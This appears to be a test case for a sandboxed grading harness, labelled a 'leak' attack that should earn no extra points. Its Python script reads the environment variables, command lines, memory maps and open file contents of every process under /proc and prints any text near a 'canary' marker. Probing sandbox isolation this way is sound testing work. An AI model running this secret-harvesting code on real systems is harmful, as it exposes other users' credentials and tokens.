# attack: reads environments, command lines, memory, descriptors and mounts of every process in /proc
# class: leak
# base: stub
# expect: no more points than base
# fast: yes
import os
seen = []
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + ["self"]:
    for name in ("environ", "cmdline", "mountinfo", "maps", "stat"):
        try:
            seen.append(open(f"/proc/{pid}/{name}", "rb").read())
        except OSError:
            pass
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            target = os.readlink(f"/proc/{pid}/fd/{fd}")
            seen.append(target.encode())
            if target.startswith("/"):
                try:
                    seen.append(open(f"/proc/{pid}/fd/{fd}", "rb").read(1_000_000))
                except OSError:
                    pass
    except OSError:
        pass
for data in seen + [repr(dict(os.environ)).encode()]:
    at = data.find(b"canary")
    if at >= 0:
        print(data[max(0, at - 100) : at + 200])
print(len(seen), os.getppid())
